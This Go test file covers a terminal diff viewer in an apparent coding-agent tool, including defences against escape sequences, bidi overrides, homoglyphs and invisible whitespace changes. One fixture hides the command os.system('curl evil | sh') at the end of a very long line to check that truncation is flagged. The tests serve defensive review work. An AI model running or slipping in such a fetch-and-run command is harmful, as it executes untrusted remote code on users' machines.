package diffview

import (
	"fmt"
	"image/color"
	"regexp"
	"strings"
	"testing"

	"github.com/alecthomas/chroma/v2"
	chromastyles "github.com/alecthomas/chroma/v2/styles"

	"pincer/themes"
	"pincer/tools"
)

// bgSGR is the SGR parameter that selects c as the background in true
// colour.
func bgSGR(c color.Color) string {
	r, g, b, _ := c.RGBA()
	return fmt.Sprintf("48;2;%d;%d;%d", r>>8, g>>8, b>>8)
}

// rawLine returns the first line of the view, colours included, whose
// plain text contains s.
func rawLine(t *testing.T, view, s string) string {
	t.Helper()
	raw := strings.Split(view, "\n")
	i := findLine(plainLines(view), s)
	if i < 0 {
		t.Fatalf("no line contains %q in:\n%s", s, strings.Join(plainLines(view), "\n"))
	}
	return raw[i]
}

// TestViewShape checks that every view is exactly the size it was given,
// whatever the change, the size, the layout and the scroll position.
func TestViewShape(t *testing.T) {
	long := strings.Repeat("wide 世界 and a long line ", 30)
	fixtures := []struct{ name, rel, before, after string }{
		{"code", "main.go", "package main\n\nfunc main() {\n\tprintln(1)\n}\n", "package main\n\nfunc main() {\n\tprintln(2)\n\tprintln(3)\n}"},
		{"new file", "new.md", "", "# New\n\nText.\n"},
		{"emptied", "old.txt", "one\ntwo\n", ""},
		{"binary", "a.png", "\x89PNG\x00\x01", "\x89PNG\x00\x02"},
		{"no changes", "same.txt", "same\n", "same\n"},
		{"crlf and long lines", "w.txt", "a\r\n" + long + "\r\nz\r\n", "a\r\n" + long + "!\r\nz\r\n"},
		{"control characters", "c.txt", "a\x1b[31m\tb\x00\n", "a\x07\u202e\tc\n"},
	}
	sizes := [][2]int{{80, 20}, {160, 20}, {200, 60}, {40, 8}, {16, 4}, {5, 3}, {1, 1}}
	keys := [][]string{nil, {"w"}, {"v"}, {"end"}, {"pgdown", "pgdown", "up"}}
	for _, f := range fixtures {
		for _, size := range sizes {
			for _, k := range keys {
				name := fmt.Sprintf("%s/%dx%d/%s", f.name, size[0], size[1], strings.Join(k, "+"))
				t.Run(name, func(t *testing.T) {
					m := newModel(f.rel, f.before, f.after, size[0], size[1])
					m.SetNote("The file changed on disk since the model read it.")
					m = press(m, k...)
					checkFrame(t, m.View(), size[0], size[1])
				})
			}
		}
	}
}

// TestViewMarksHunks checks the marks of the current hunk and of a
// rejected one, which the plain golden files cannot show.
func TestViewMarksHunks(t *testing.T) {
	m := press(storeChange(t, 80, 60), "j", "space")
	v := m.View()
	p := themes.Dark().Palette

	title := rawLine(t, v, "hunk 2/5  +")
	if !strings.Contains(title, "✗ rejected") {
		t.Errorf("title of the rejected hunk lacks the label: %q", title)
	}
	if !strings.Contains(rawLine(t, v, "hunk 3/5  +"), "✓ accepted") {
		t.Errorf("title of an accepted hunk lacks its label: %q", rawLine(t, v, "hunk 3/5  +"))
	}
	if !strings.Contains(title, bgSGR(p.Selection)) {
		t.Errorf("title of the current hunk is not highlighted: %q", title)
	}

	rejectedAdd := rawLine(t, v, "v, ok := s.values[name]")
	if strings.Contains(rejectedAdd, bgSGR(p.DiffAddedBg)) {
		t.Errorf("an added line of a rejected hunk keeps the added background: %q", rejectedAdd)
	}
	if !regexp.MustCompile(`\x1b\[[0-9;]*;9m\s*v, ok`).MatchString(rejectedAdd) {
		t.Errorf("an added line of a rejected hunk is not struck through: %q", rejectedAdd)
	}
	acceptedAdd := rawLine(t, v, "sorted by name")
	if !strings.Contains(acceptedAdd, bgSGR(p.DiffAddedBg)) {
		t.Errorf("an added line of an accepted hunk lacks the added background: %q", acceptedAdd)
	}
	if !strings.Contains(rawLine(t, v, "// Dump prints every value."), bgSGR(p.DiffRemovedBg)) {
		t.Error("a removed line of an accepted hunk lacks the removed background")
	}

	lines := plainLines(v)
	for _, s := range []string{"hunk 2/5  +", "v, ok := s.values[name]", "// Set stores value under name."} {
		if l := lines[findLine(lines, s)]; !strings.HasPrefix(l, currentMark) {
			t.Errorf("line of the current hunk is not marked: %q", l)
		}
	}
	for _, s := range []string{"hunk 3/5  +", "sorted by name"} {
		if l := lines[findLine(lines, s)]; strings.HasPrefix(l, currentMark) {
			t.Errorf("line of another hunk is marked current: %q", l)
		}
	}
}

// TestViewLineNumbers checks the old and new line numbers in both layouts.
func TestViewLineNumbers(t *testing.T) {
	cases := []struct {
		name  string
		w     int
		line  string // text on the line
		shape string // the plain line must match this
	}{
		{"unified added", 80, "v, ok := s.values[name]", `^.   20 \+     v, ok`},
		{"unified removed", 80, "return s.values[name]", `^.17    -     return s\.values`},
		{"unified context", 80, "s.values[name] = value", `^.22 26       s\.values\[name\] = value`},
		{"side by side change", 160, "v, ok := s.values[name]", `^.17 -     return s\.values\[name\] +│ 20 \+     v, ok`},
		{"side by side added only", 160, "return v, ok", `^. +│ 21 \+     return v, ok`},
		{"side by side context", 160, "s.values[name] = value", `^.22       s\.values\[name\] = value +│ 26       s\.values`},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			lines := plainLines(storeChange(t, tc.w, 40).View())
			i := findLine(lines, tc.line)
			if i < 0 {
				t.Fatalf("no line contains %q", tc.line)
			}
			if !regexp.MustCompile(tc.shape).MatchString(lines[i]) {
				t.Errorf("line = %q, want it to match %q", lines[i], tc.shape)
			}
		})
	}
}

// TestViewHighlightsSyntax checks that code is coloured by the theme's
// chroma style, on the diff backgrounds, in every built-in theme. The Go
// lexer gives "func" the type KeywordDeclaration.
func TestViewHighlightsSyntax(t *testing.T) {
	for _, th := range themes.Builtin() {
		t.Run(th.Name, func(t *testing.T) {
			m := storeChange(t, 80, 40)
			m.SetTheme(th)
			v := m.View()
			kw := chromastyles.Get(th.ChromaStyle).Get(chroma.KeywordDeclaration).Colour
			keyword := fmt.Sprintf("38;2;%d;%d;%d", kw.Red(), kw.Green(), kw.Blue())
			context := rawLine(t, v, "func (s *Store) Dump() {")
			if !regexp.MustCompile(`\x1b\[[0-9;]*` + keyword + `[0-9;]*mfunc`).MatchString(context) {
				t.Errorf("keyword of a context line is not in the style's colour %s: %q", keyword, context)
			}
			added := rawLine(t, v, "func (s *Store) Get(name string) (string, bool) {")
			if !regexp.MustCompile(`\x1b\[[0-9;]*` + keyword + `;` + bgSGR(th.Palette.DiffAddedBg) + `[0-9;]*mfunc`).MatchString(added) {
				t.Errorf("keyword of an added line is not in the style's colour over the added background: %q", added)
			}
		})
	}
}

// TestViewLineEndings checks that CRLF files look like any other, and that
// a line whose ending alone changed shows it.
func TestViewLineEndings(t *testing.T) {
	cases := []struct {
		name, before, after string
		want, wantNot       []string
	}{
		{
			name:    "CRLF file",
			before:  "one\r\ntwo\r\nthree\r\n",
			after:   "one\r\n2\r\nthree\r\n",
			want:    []string{"- two", "+ 2"},
			wantNot: []string{markCR, markLF, "^M", "\r"},
		},
		{
			name:   "a CRLF line in an LF file",
			before: "one\ntwo\nthree\n",
			after:  "one\ntwo\r\nthree\n",
			want:   []string{"+ two" + markCR},
		},
		{
			name:   "an LF line in a CRLF file",
			before: "one\r\ntwo\r\nthree\r\n",
			after:  "one\r\ntwo\nthree\r\n",
			want:   []string{"+ two" + markLF},
		},
		{
			name:   "the whole file converted",
			before: "one\r\ntwo\r\n",
			after:  "one\ntwo\n",
			want:   []string{"line endings CRLF → LF"},
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			v := newModel("e.txt", tc.before, tc.after, 100, 12).View()
			plain := strings.Join(plainLines(v), "\n")
			for _, s := range tc.want {
				if !strings.Contains(plain, s) {
					t.Errorf("view lacks %q:\n%s", s, plain)
				}
			}
			for _, s := range tc.wantNot {
				if strings.Contains(v, s) {
					t.Errorf("view contains %q:\n%s", s, plain)
				}
			}
		})
	}
}

// TestViewNoNewlineMark checks that a missing final line break is marked
// under the line that lacks it, on the side that lacks it.
func TestViewNoNewlineMark(t *testing.T) {
	cases := []struct {
		name, before, after string
		w                   int
		above               string // the line before the mark
	}{
		{"added", "a\nb\n", "a\nc", 80, "+ c"},
		{"removed", "a\nb", "a\nc\n", 80, "- b"},
		{"context", "a\nb\nc\nd", "A\nb\nc\nd", 80, "d"},
		{"side by side", "a\nb\n", "a\nc", 160, "+ c"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			lines := plainLines(newModel("f.txt", tc.before, tc.after, tc.w, 12).View())
			i := findLine(lines, noEOLText)
			if i < 1 {
				t.Fatalf("no mark of the missing line break:\n%s", strings.Join(lines, "\n"))
			}
			if !strings.HasSuffix(lines[i-1], tc.above) {
				t.Errorf("line above the mark = %q, want it to end with %q", lines[i-1], tc.above)
			}
			if strings.Count(strings.Join(lines, "\n"), noEOLText) != 1 {
				t.Errorf("the mark appears more than once:\n%s", strings.Join(lines, "\n"))
			}
		})
	}
}

// TestViewNeutralisesControls checks that a file cannot send the terminal
// its own escape sequences or reorder the line.
func TestViewNeutralisesControls(t *testing.T) {
	v := newModel("c.txt", "a\x1b[31mred\n", "b\x1b]0;title\x07\u202eevil\n", 80, 8).View()
	for _, bad := range []string{"\x1b[31m", "\x1b]0;", "\x07", "\u202e"} {
		if strings.Contains(v, bad) {
			t.Errorf("view passes %q through", bad)
		}
	}
	plain := strings.Join(plainLines(v), "\n")
	for _, want := range []string{"a␛[31mred", "b␛]0;title␇⟨U+202E⟩evil"} {
		if !strings.Contains(plain, want) {
			t.Errorf("view lacks %q:\n%s", want, plain)
		}
	}
}

// TestViewNote checks the warning line the dialog passes in.
func TestViewNote(t *testing.T) {
	m := storeChange(t, 80, 20)
	without := plainLines(m.View())
	m.SetNote("The file changed on disk since the model read it.")
	with := plainLines(m.View())
	checkFrame(t, m.View(), 80, 20)
	if with[1] != " ⚠ The file changed on disk since the model read it." {
		t.Errorf("second line = %q, want the note", with[1])
	}
	if with[2] != without[1] {
		t.Errorf("the diff does not start under the note: %q, want %q", with[2], without[1])
	}
	m.SetNote("")
	if got := plainLines(m.View()); got[1] != without[1] {
		t.Errorf("after removing the note, second line = %q, want %q", got[1], without[1])
	}
}

// TestStaleChangeIsNoted checks that a change planned against a file that
// changed on disk says so until the dialog sets its own note.
func TestStaleChangeIsNoted(t *testing.T) {
	m := New(&tools.Change{Rel: "f.txt", Before: []byte("a\n"), After: []byte("b\n"), Stale: true}, themes.Dark())
	m.SetSize(120, 10)
	if lines := plainLines(m.View()); lines[1] != " ⚠ "+StaleNote {
		t.Errorf("second line = %q, want the stale note", lines[1])
	}
	m.SetNote("Compared with the file on disk.")
	if lines := plainLines(m.View()); lines[1] != " ⚠ Compared with the file on disk." {
		t.Errorf("after SetNote, second line = %q", lines[1])
	}
	fresh := newModel("f.txt", "a\n", "b\n", 120, 10)
	if lines := plainLines(fresh.View()); strings.Contains(strings.Join(lines, "\n"), "⚠") {
		t.Errorf("a change that is not stale shows a warning:\n%s", strings.Join(lines, "\n"))
	}
}

// TestViewLayout checks the choice between unified and side by side.
func TestViewLayout(t *testing.T) {
	cases := []struct {
		w     int
		keys  []string
		split bool
	}{
		{80, nil, false},
		{139, nil, false},
		{140, nil, true},
		{160, []string{"v"}, false},
		{160, []string{"v", "v"}, true},
		{80, []string{"v"}, true},
		{30, []string{"v"}, false}, // too narrow for two columns
	}
	for _, tc := range cases {
		t.Run(fmt.Sprintf("%d/%s", tc.w, strings.Join(tc.keys, "+")), func(t *testing.T) {
			m := press(storeChange(t, tc.w, 20), tc.keys...)
			lines := plainLines(m.View())
			split := strings.Contains(lines[findLine(lines, "package store")], "│")
			if split != tc.split {
				t.Errorf("side by side = %v, want %v:\n%s", split, tc.split, strings.Join(lines, "\n"))
			}
		})
	}
}

// TestViewWrap checks that long lines wrap, or are cut with "…" once
// wrapping is turned off.
func TestViewWrap(t *testing.T) {
	long := "x := \"" + strings.Repeat("abcdefghij", 12) + "END\"\n"
	m := newModel("w.go", "package w\n"+long, "package w\n"+long+"y := 1\n", 60, 12)
	wrapped := strings.Join(plainLines(m.View()), "\n")
	if !strings.Contains(wrapped, `END"`) {
		t.Errorf("wrapped view lacks the end of the long line:\n%s", wrapped)
	}
	m = press(m, "w")
	cut := plainLines(m.View())
	if strings.Contains(strings.Join(cut, "\n"), "END") {
		t.Errorf("cut view shows the end of the long line:\n%s", strings.Join(cut, "\n"))
	}
	if l := cut[findLine(cut, `x := "abc`)]; !strings.HasSuffix(l, "…") {
		t.Errorf("cut line does not end with …: %q", l)
	}
}

// TestHunkTitles checks the hunk titles of a new and of an emptied file.
func TestHunkTitles(t *testing.T) {
	cases := []struct{ name, before, after, want string }{
		{"new file", "", "a\nb\nc\n", "@@ -0,0 +1,3 @@  hunk 1/1  +3 −0"},
		{"emptied", "a\nb\nc\n", "", "@@ -1,3 +0,0 @@  hunk 1/1  +0 −3"},
		{"one line", "a\nb\nc\nd\ne\nf\ng\nh\n", "a\nb\nc\nd\ne\nf\ng\nH\n", "@@ -5,4 +5,4 @@  hunk 1/1  +1 −1"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			lines := plainLines(newModel("t.txt", tc.before, tc.after, 80, 10).View())
			if findLine(lines, tc.want) < 0 {
				t.Errorf("no title %q in:\n%s", tc.want, strings.Join(lines, "\n"))
			}
		})
	}
}

// TestLargeChangeHighlightsOffTheLoop checks that a change too large to
// lex on the event loop is drawn plain first, and in colour once the
// command from Init has run; a small one needs no command.
func TestLargeChangeHighlightsOffTheLoop(t *testing.T) {
	kw := chromastyles.Get(themes.Dark().ChromaStyle).Get(chroma.KeywordDeclaration).Colour
	keyword := regexp.MustCompile(`\x1b\[[0-9;]*` + fmt.Sprintf("38;2;%d;%d;%d", kw.Red(), kw.Green(), kw.Blue()) + `[0-9;]*mfunc`)

	if cmd := storeChange(t, 80, 20).Init(); cmd != nil {
		t.Error("a small change asks for a command to be highlighted")
	}

	before, after := longGoFile(2000)
	m := newModel("long.go", before, after, 120, 30)
	if keyword.MatchString(m.View()) {
		t.Fatal("a large change is highlighted on the event loop")
	}
	cmd := m.Init()
	if cmd == nil {
		t.Fatal("Init() returned no command for a large change")
	}
	msg := cmd()

	other := newModel("long.go", before, after, 120, 30)
	other, _ = other.Update(msg)
	if keyword.MatchString(other.View()) {
		t.Error("another model took the highlighting of this one")
	}

	m, _ = m.Update(msg)
	v := m.View()
	checkFrame(t, v, 120, 30)
	if !keyword.MatchString(v) {
		t.Errorf("after the command's message the view is not highlighted:\n%s", v)
	}
}

// TestViewTellsLookalikesApart checks that a changed line drawn exactly
// like the line it replaces shows what differs, so a review never reads
// "no change" where bytes change; lines that differ visibly are drawn as
// they are.
func TestViewTellsLookalikesApart(t *testing.T) {
	cases := []struct {
		name, before, after string
		want                []string
		wantNot             []string
	}{
		{"trailing space", "a = 1\nb\n", "a = 1 \nb\n", []string{"- a = 1", "+ a = 1␠", "1 line looks unchanged but is not"}, nil},
		{"trailing tab", "a = 1\n", "a = 1\t\n", []string{"+ a = 1␉"}, nil},
		{"tab for spaces", "    x()\n", "\tx()\n", []string{"-     x()", "+ ␉x()"}, nil},
		{"no-break space", "rm -rf build\n", "rm -rf\u00a0build\n", []string{"+ rm -rf⟨U+00A0⟩build"}, nil},
		{"a Cyrillic letter", "user = 1\n", "us\u0435r = 1\n", []string{"- user = 1", "+ us⟨U+0435⟩r = 1"}, nil},
		{"paired across a hunk", "x\na = 1\n", "a = 1 \ny\n", []string{"+ a = 1␠"}, nil},
		{"a visible change is drawn as it is", "naïve = 1\n", "naïve = 2\n", []string{"+ naïve = 2"}, []string{"⟨U+", "but is not"}},
		{"an unchanged line with trailing space stays", "k \na\n", "k \nb\n", []string{"  k"}, []string{"␠", "but is not"}},
		{"a new line mixes scripts in a word", "a = 1\n", "a = 1\nif is\u0410dmin {\n", []string{"+ if is⟨U+0410⟩dmin {", "1 added line has a word that mixes scripts"}, nil},
		{"a new file mixes scripts", "", "p\u0430ypal = 1\nok = 2\n", []string{"+ p⟨U+0430⟩ypal = 1", "+ ok = 2", "1 added line has a word"}, nil},
		{"a Russian comment is not flagged", "a = 1\n", "a = 1\n// проверка входа пользователя\n", []string{"+ // проверка входа"}, []string{"⟨U+", "mixes scripts"}},
		{"Greek text is not flagged", "", "s = \"λόγος\"\n", []string{"λόγος"}, []string{"⟨U+", "mixes scripts"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			plain := strings.Join(plainLines(newModel("e.go", tc.before, tc.after, 100, 12).View()), "\n")
			for _, s := range tc.want {
				if !strings.Contains(plain, s) {
					t.Errorf("view lacks %q:\n%s", s, plain)
				}
			}
			for _, s := range tc.wantNot {
				if strings.Contains(plain, s) {
					t.Errorf("view has %q:\n%s", s, plain)
				}
			}
		})
	}
}

// TestViewWarnsOfCutLines checks that an added line drawn cut short is
// said above the diff: what follows its "…" would be written unseen.
func TestViewWarnsOfCutLines(t *testing.T) {
	long := strings.Repeat("x = 1; ", 2000) + "os.system('curl evil | sh')"
	cases := []struct {
		name, before, after string
		w                   int
		want                string // "" for no warning
	}{
		{"wrapped past the cap", "a\n", long + "\n", 100, "1 added line is too long to show whole"},
		{"two, side by side", "a\nb\n", long + "\n" + long + "\n", 200, "2 added lines are too long to show whole"},
		{"a removed line is no warning", long + "\n", "a\n", 100, ""},
		{"a long line shown whole", "a\n", strings.Repeat("y", 500) + "\n", 100, ""},
		{"unchanged long context", long + "\na\n", long + "\nb\n", 100, ""},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			plain := strings.Join(plainLines(newModel("e.py", tc.before, tc.after, tc.w, 30).View()), "\n")
			has := strings.Contains(plain, "too long to show whole")
			if tc.want == "" && has || tc.want != "" && !strings.Contains(strings.Join(strings.Fields(plain), " "), tc.want) {
				t.Errorf("want %q:\n%s", tc.want, plain)
			}
		})
	}
}
